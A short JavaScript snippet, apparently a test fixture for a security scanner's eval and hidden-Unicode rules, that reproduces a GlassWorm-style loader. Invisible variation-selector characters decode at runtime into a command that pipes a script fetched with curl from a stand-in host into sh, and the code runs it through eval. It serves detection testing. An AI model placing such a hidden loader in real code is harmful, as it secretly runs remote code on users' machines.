// The loader rides in an empty-looking template string as variation selectors (GlassWorm, 2025).
const s = (v) => [...v].map((w) => ((w = w.codePointAt(0)), w >= 0xfe00 && w <= 0xfe0f ? w - 0xfe00 : w >= 0xe0100 && w <= 0xe01ef ? w - 0xe0100 + 16 : null)).filter((n) => n !== null);
// pi-expect: SEC-EVAL-001, SEC-UNICODE-001
eval(Buffer.from(s(`󠅓󠅟󠅞󠅣󠅤󠅫󠅕󠅨󠅕󠅓󠅃󠅩󠅞󠅓󠄪󠅨󠅭󠄭󠅢󠅕󠅡󠅥󠅙󠅢󠅕󠄘󠄒󠅓󠅘󠅙󠅜󠅔󠅏󠅠󠅢󠅟󠅓󠅕󠅣󠅣󠄒󠄙󠄫󠅨󠄘󠄒󠅓󠅥󠅢󠅜󠄐󠄝󠅣󠄐󠅘󠅤󠅤󠅠󠅣󠄪󠄟󠄟󠅓󠅔󠅞󠄞󠅕󠅨󠅑󠅝󠅠󠅜󠅕󠄝󠅥󠅠󠅔󠅑󠅤󠅕󠅣󠄞󠅞󠅕󠅤󠄟󠅠󠄞󠅣󠅘󠄐󠅬󠄐󠅣󠅘󠄒󠄙`)).toString("utf-8"));
